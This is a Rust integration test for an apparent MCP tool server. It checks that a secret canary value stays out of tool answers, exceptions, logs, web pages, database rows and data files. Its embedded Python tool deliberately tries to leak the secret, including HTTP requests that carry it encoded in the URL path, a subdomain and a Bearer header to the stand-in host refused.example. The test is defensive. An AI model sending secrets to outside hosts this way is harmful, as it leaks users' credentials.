//! Canary secrets: whatever tools do with a value, it is in no answer, log, page, error or file.

use std::path::Path;
use std::process::Command;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use testkit::http::{Api, send};
use testkit::program::{ACCOUNT, Program, Start};

use crate::client::Client;
use crate::database::Database;
use crate::secrets::{make, put};
use crate::whole_loop::publish;

/// Looks different in each encoding.
const CANARY: &str = "canary \"7f3a\"\\q/ü+€'~9b1e?";

/// Several lines, of which each alone would tell enough.
const LINES: &str =
    "=====7Q CANARY=====\ncGVubnktd2lzZS1wb3VuZC1mb29saXNo\n=====END 7Q CANARY=====";

/// Says a value in every encoding, in every way that a tool has.
const CODE: &str = r#"# mcpbox: secrets=CANARY
import asyncio
import base64
import json
import urllib.parse

from mcpbox import File


def encodings(value):
    data = value.encode()
    yield value
    yield repr(value)
    yield ascii([value])
    yield repr(data)
    for text in (json.dumps(value), json.dumps(value, ensure_ascii=False)):
        yield text
        yield json.dumps({"inner": text})
    for kept in ("", "/", "!'()*"):
        yield urllib.parse.quote(value, safe=kept)
        yield urllib.parse.quote_plus(value, safe=kept)
    for before in (b"", b"a", b"ab"):
        for after in (b"", b"z", b"yz"):
            yield base64.b64encode(before + data + after).decode()
            yield base64.urlsafe_b64encode(before + data + after).decode()
    yield data.hex()
    yield data.hex().upper()


async def main(how: str, note: str = ""):
    value = secrets["CANARY"]
    said = list(encodings(value))
    text = "\n".join(said)
    match how:
        case "length":
            return len(value)
        case "print":
            print(text)
            print({"value": value}, [value], said)
            return None
        case "cut":
            print("x" * (1_048_576 - 12) + value)
            return None
        case "raise":
            raise ValueError(text)
        case "raise_long":
            raise ValueError("x" * 975 + value + "x" * 5_000 + value + "x" * 990)
        case "raise_values":
            raise RuntimeError(value, said, {"value": value})
        case "raise_from":
            try:
                {}[value]
            except KeyError as error:
                error.add_note(text)
                raise LookupError(value.encode()) from error
        case "raise_group":
            raise ExceptionGroup(value, [ValueError(one) for one in said[:8]])
        case "text":
            return text
        case "dict":
            return {one: one for one in said}
        case "list":
            return [said, value, {"deep": [{"deeper": value}]}]
        case "bytes":
            return [File(b"\xff\x00" + value.encode(), "data.bin"), File(value.encode(), "b.txt")]
        case "file":
            return [text, File(text, value + ".txt"), {"also": value}]
        case "large":
            return (text + "\n") * 4_000
        case "large_file":
            return File((text + "\n") * 4_000, "large.txt")
        case "send":
            for url in (
                "https://refused.example/" + urllib.parse.quote(value, safe="") + "?key=x",
                "https://" + (value.encode().hex() if len(value) < 30 else "x") + ".refused.example/",
                "https://refused.example/" + base64.urlsafe_b64encode(value.encode()).decode(),
                "not an address " + value,
            ):
                try:
                    await http.get(url, headers={"Authorization": "Bearer " + value.encode().hex()})
                except Exception as error:
                    print(type(error), error)
            return await http.get("https://refused.example/?key=" + urllib.parse.quote(value))
        case "wait":
            print(text)
            await asyncio.sleep(20)
    return note
"#;

const WAYS: [&str; 15] = [
    "print",
    "cut",
    "raise",
    "raise_long",
    "raise_values",
    "raise_from",
    "raise_group",
    "text",
    "dict",
    "list",
    "bytes",
    "file",
    "large",
    "large_file",
    "send",
];

/// Those whose answers tell what is left of the value.
const TOLD: [&str; 9] =
    ["raise", "raise_values", "raise_from", "raise_group", "text", "dict", "list", "file", "large"];

/// What must not be found anywhere.
struct Needles(Vec<String>);

impl Needles {
    fn of(value: &str) -> Self {
        let hex = value.bytes().fold(String::new(), |text, byte| format!("{text}{byte:02x}"));
        let quoted = json!(value).to_string();
        let mut needles = vec![value.to_owned(), quoted.trim_matches('"').to_owned()];
        needles.extend(value.lines().map(str::to_owned));
        for before in 0..3 {
            let data = [&b"ab"[..before], value.as_bytes()].concat();
            let text = STANDARD.encode(data);
            // Without the letters that what stands before and after has a part in.
            let inner = text.get(4..text.len() - 4).expect("a long value");
            needles.push(inner.to_owned());
            needles.push(inner.replace('+', "-").replace('/', "_"));
        }
        // Parts too: nothing else on earth looks like that.
        needles.push(hex.to_uppercase().chars().take(24).collect());
        needles.push(hex.chars().take(24).collect());
        needles.push(value.chars().take(12).collect());
        needles.push(value.chars().skip(value.chars().count() - 8).collect());
        Self(needles)
    }

    fn assert_absent(&self, text: &str, place: &str) {
        for needle in &self.0 {
            if let Some(at) = text.find(needle.as_str()) {
                let from = text.floor_char_boundary(at.saturating_sub(200));
                panic!("{place}: {needle:?} is in it, behind {:?}", text.get(from..at));
            }
        }
    }

    /// Has PostgreSQL read every table.
    fn assert_absent_in_rows(&self, database: &Database) {
        for needle in &self.0 {
            database.execute(&format!(
                "DO $do$ DECLARE name text; found boolean; BEGIN
                 FOR name IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP
                   EXECUTE format('SELECT EXISTS (SELECT FROM %I AS t WHERE position(%L IN t::text) > 0
                     OR position(%L IN to_jsonb(t)::text) > 0)', name, $needle${needle}$needle$,
                     $needle${needle}$needle$) INTO found;
                   IF found THEN RAISE EXCEPTION 'a canary is in %', name; END IF;
                 END LOOP; END $do$"
            ));
        }
    }

    /// Reads every file of a folder.
    fn assert_absent_below(&self, folder: &Path) {
        for entry in std::fs::read_dir(folder).expect("a folder") {
            let path = entry.expect("an entry").path();
            if path.is_dir() {
                self.assert_absent_below(&path);
            } else if let Ok(data) = std::fs::read(&path) {
                self.assert_absent(&String::from_utf8_lossy(&data), &path.display().to_string());
            }
        }
    }
}

/// A program that writes all it logs into a file.
fn serve(database: &Database, log: &Path) -> Program {
    let dir = database.data_dir();
    let arguments = ["--log", "debug"];
    let start = Start {
        command: "serve",
        data_dir: &dir,
        database_url: database.url(),
        arguments: &arguments,
    };
    let own = start.command();
    let mut command = Command::new("sh");
    command.args(["-c", "exec \"$@\" 2>>\"$LOG\"", "sh"]).arg(own.get_program());
    command.args(own.get_args()).env("LOG", log);
    command.env_remove("MCPBOX_DATABASE_URL").current_dir(dir.parent().expect("a parent"));
    start.run_as(command)
}

#[test]
fn a_canary_is_nowhere_on_sqlite() {
    canary(&Database::sqlite(), CANARY);
}

#[test]
fn a_canary_of_several_lines_is_nowhere() {
    canary(&Database::sqlite(), LINES);
}

#[test]
fn a_canary_is_nowhere_on_postgresql() {
    canary(&Database::postgres(), CANARY);
}

fn canary(database: &Database, value: &str) {
    let outside = tempfile::tempdir().expect("a folder");
    let log = outside.path().join("stderr");
    let program = serve(database, &log);
    let mut model = Client::connect(&program.mcp, "auto");
    let api = Api::sign_in(&program.admin);
    let tool_id = publish(&mut model, &api, "birds", "say", CODE);
    let server_id = make(&mut model, "birds", "CANARY");
    put(&api, &server_id, "CANARY", value);
    let needles = Needles::of(value);
    let length = json!(value.chars().count());
    let read = model.ok("birds__say", &json!({"how": "length"}));
    assert_eq!(read["result"], length, "the tool reads it: {read}");

    for how in WAYS {
        let note = if how == "dict" { value } else { "" };
        let answer = model.call("birds__say", &json!({"how": how, "note": note}));
        needles.assert_absent(&answer.to_string(), how);
        if TOLD.contains(&how) {
            assert!(answer.to_string().contains("[secret CANARY]"), "{how}: {answer}");
        }
    }
    // One that is cancelled after it has printed.
    model.ask(&json!({"do": "begin", "name": "birds__say", "arguments": {"how": "wait"}}));
    drop(model);
    let mut model = Client::connect(&program.mcp, "auto");
    let test = json!({"tool_id": tool_id, "arguments": {"how": "print"}});
    needles.assert_absent(&model.call("mcpbox_test_code", &test).to_string(), "a test");
    let wrong = api.send("PUT", &format!("/api/servers/{server_id}/secrets/NONE"), &json!(value));
    needles.assert_absent(&format!("{wrong:?}"), "a wrong request");
    let logs = json!({"tool_id": tool_id, "limit": 50});
    let logs = model.ok("mcpbox_get_tool_logs", &logs);
    assert!(logs["logs"].as_array().expect("a list").len() > WAYS.len(), "{logs}");
    needles.assert_absent(&logs.to_string(), "the log for models");
    for path in ["/api/execution-logs?page_size=100", &format!("/api/servers/{server_id}/secrets")]
    {
        let told = api.ok("GET", path, &Value::Null);
        needles.assert_absent(&told.to_string(), path);
    }
    pages(&program, &api, &server_id, &tool_id, &needles);

    assert!(program.terminate().success());
    needles.assert_absent_below(&database.data_dir());
    if database.url().is_some() {
        needles.assert_absent_in_rows(database);
    }
    let logged = std::fs::read(&log).expect("what it logged");
    assert!(!logged.is_empty(), "it logs something");
    needles.assert_absent(&String::from_utf8_lossy(&logged), "standard error");
    let program = serve(database, &log);
    let read = Client::connect(&program.mcp, "auto").ok("birds__say", &json!({"how": "length"}));
    assert_eq!(read["result"], length, "it is still there, sealed");
    program.kill();
    needles.assert_absent_below(&database.data_dir());
}

/// Every page that tells of the tool and its calls, and what was kept of results.
fn pages(program: &Program, api: &Api, server_id: &str, tool_id: &str, needles: &Needles) {
    let cookie = sign_in(&program.admin);
    let get = |path: &str| {
        let headers = [("Cookie", cookie.as_str()), ("Accept", "text/html")];
        let answer = send(&program.admin, "GET", path, &headers, "");
        assert_eq!(answer.status, 200, "{path}: {answer:?}");
        answer.body
    };
    let mut paths = vec!["/".to_owned(), "/servers".to_owned(), "/logs".to_owned()];
    paths.extend([format!("/servers/{server_id}"), format!("/tools/{tool_id}")]);
    let calls = api.ok("GET", "/api/execution-logs?page_size=100", &Value::Null);
    let mut kept = 0;
    for call in calls["items"].as_array().expect("a list") {
        let id = call["id"].as_str().expect("an id");
        paths.push(format!("/logs/{id}"));
        let row = api.ok("GET", &format!("/api/logs/{id}"), &Value::Null).to_string();
        needles.assert_absent(&row, "a row of the log");
        for part in row.split("mcpbox://artifacts/").skip(1) {
            paths.push(format!("/artifacts/{}", part.get(..36).expect("an id")));
            kept += 1;
        }
    }
    assert!(kept > 0, "a large result is kept: {calls}");
    for path in paths {
        needles.assert_absent(&get(&path), &path);
    }
}

/// Signs in by the form and returns the cookie.
fn sign_in(admin: &str) -> String {
    let headers = [("Content-Type", "application/x-www-form-urlencoded"), ("Origin", admin)];
    let form = format!("username={}&password={}", ACCOUNT.0, ACCOUNT.1.replace(' ', "+"));
    let answer = send(admin, "POST", "/login", &headers, &form);
    let cookie = answer.head.lines().find_map(|line| {
        let (name, value) = line.split_once(':')?;
        name.eq_ignore_ascii_case("set-cookie").then(|| value.split(';').next())?
    });
    cookie.unwrap_or_else(|| panic!("a session: {answer:?}")).trim().to_owned()
}
